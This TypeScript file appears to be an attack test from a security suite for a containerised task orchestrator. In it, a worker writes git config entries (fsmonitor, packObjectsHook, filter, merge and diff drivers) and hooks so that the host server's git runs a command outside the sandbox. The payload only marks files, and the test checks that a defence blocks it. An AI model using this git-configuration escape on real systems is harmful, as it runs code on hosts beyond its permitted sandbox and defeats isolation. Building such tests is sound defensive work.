import { existsSync } from 'node:fs'
import { join } from 'node:path'
import type { Attack } from '../stage/attack.ts'
import { commitAll, newName, writeNote } from '../stage/workspace.ts'

const hooks = ['post-checkout', 'post-index-change', 'pre-auto-gc', 'reference-transaction']

/**
 * The command marks two places: one that only the machine has, and one that only the container has,
 * which proves that what was set has an effect. Without the defence the tool that offers the work
 * runs on the machine; `SUDO_UID` is what makes git of root accept a repository of another user.
 */
export const gitConfig: Attack = {
  id: 'git-config',
  from: 'a worker',
  tries: 'has git of the server run a command, by configuration, hooks, filters and attributes',
  world: 'sealed',
  disarmedBy: [
    {
      file: 'src/adapters/docker/workspaces.ts',
      find: "return [...engine.cli, 'exec', '-i', containerNameOf(host, instance), ...git]",
      replace:
        "const tool = `${import.meta.dirname}/../../../docker/tools/salvage`\n      return ['env', 'SUDO_UID=1000', tool, directories.mounts(instance).workspace, git.join()]",
    },
  ],
  async run(stage) {
    const { attacker, setup } = stage
    const name = newName('taken')
    const there = join(setup.root, name)
    const command = `touch /workspace/.git/${name} ${there} 2>/dev/null`
    // The filter changes the time of its file, so that every git reads the file again.
    const config = `
[core]
  fsmonitor = "${command}; false"
  alternateRefsCommand = "${command}; true"
[uploadpack]
  packObjectsHook = "${command}; exec"
[filter "run"]
  clean = "${command}; touch -d @$$ notes/${name}.txt 2>/dev/null; cat"
  smudge = "${command}; cat"
[merge "run"]
  driver = "${command}; true"
[diff "run"]
  command = "${command}; true"
  textconv = "${command}; cat"
`
    const task = await stage.taskOf(attacker)
    await attacker.output(
      `cd "$ORCHESTRATOR_WORKSPACE" && cp .git/config .git/config.before && cat >>.git/config && ` +
        `mkdir -p .git/hooks && for hook in ${hooks.join(' ')}; do ` +
        `printf '#!/bin/sh\\n%s\\nexit 0\\n' '${command}' >.git/hooks/$hook; ` +
        'chmod +x .git/hooks/$hook; done; ' +
        "echo '* filter=run merge=run diff=run' | tee .gitattributes >.git/info/attributes; " +
        `${writeNote(name)}; ${commitAll}; touch notes/${name}.txt; rm -f .git/${name}`,
      config,
    )
    const answer = await stage.report(attacker, 'There are attributes now.')
    const hasRun = await attacker.sh(`[ -e /workspace/.git/${name} ]`)
    if (!existsSync(there)) {
      if (hasRun.code !== 0) throw new Error(`no command ran anywhere: ${answer}`)
      await stage.settled(task)
      await stage.request(`/api/v1/tasks/${task}/protected`)
    }
    await attacker.output(
      `cd /workspace/.git && mv config.before config && rm -rf hooks info/attributes ${name}`,
    )
    return existsSync(there) ? ['a command that ran on the machine, as the server'] : []
  },
}
